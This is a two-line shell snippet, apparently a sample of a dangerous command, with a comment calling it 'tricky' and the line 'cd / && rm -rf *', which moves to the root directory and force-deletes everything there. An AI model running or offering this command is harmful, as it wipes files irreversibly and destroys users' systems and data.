# tricky: removes where it went
cd / && rm -rf *
